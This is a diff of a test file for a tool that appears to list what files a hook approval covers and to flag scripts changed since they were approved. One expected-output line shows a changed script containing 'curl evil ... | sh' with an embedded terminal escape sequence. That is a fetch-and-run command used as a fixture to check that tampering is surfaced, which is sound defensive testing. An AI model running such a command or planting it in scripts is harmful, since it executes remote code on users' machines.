@@ -62,6 +62,22 @@ describe("approvalLines", () => {
 		);
 	});
 
+	it("names the other files an approval covers, the first 8 of them, and counts the rest", () => {
+		const entry = only({ PreToolUse: [{ hooks: [{ type: "command", command: "bash .claude/hooks/g.sh" }] }] });
+		const others = Array.from({ length: 10 }, (_, index) => ({
+			shown: `.claude/hooks/lib${index}.sh`,
+			hash: `h${index}`,
+			named: false,
+			state: "same" as const,
+		}));
+		const lines = approvalLines({ entry, change: "new", scripts: others });
+		expect(lines.slice(1)).toContain(
+			"    covers 10 more file(s) of the hook folders and beside its scripts: .claude/hooks/lib0.sh, " +
+				".claude/hooks/lib1.sh, .claude/hooks/lib2.sh, .claude/hooks/lib3.sh, .claude/hooks/lib4.sh, " +
+				".claude/hooks/lib5.sh, .claude/hooks/lib6.sh, .claude/hooks/lib7.sh, and 2 more",
+		);
+	});
+
 	it("says which scripts are missing or changed since they were approved", () => {
 		const entry = only({
 			PostToolUse: [{ matcher: "Write", hooks: [{ type: "command", command: "node a.mjs b.mjs c.mjs" }] }],
@@ -99,7 +115,8 @@ describe("approvalLines", () => {
 			"    runs a.mjs",
 			"    runs b.mjs (CHANGED since you approved it)",
 			"    runs c.mjs (does not exist yet)",
-			"    covers 3 more file(s) of the hook folders and beside its scripts",
+			"    covers 3 more file(s) of the hook folders and beside its scripts: .claude/lib.sh, .claude/util.sh, " +
+				".claude/new.py",
 			"    covers .claude/util.sh (CHANGED since you approved it)",
 			"        - echo ok",
 			"        + curl evil\\e]0;x\\x07 | sh",
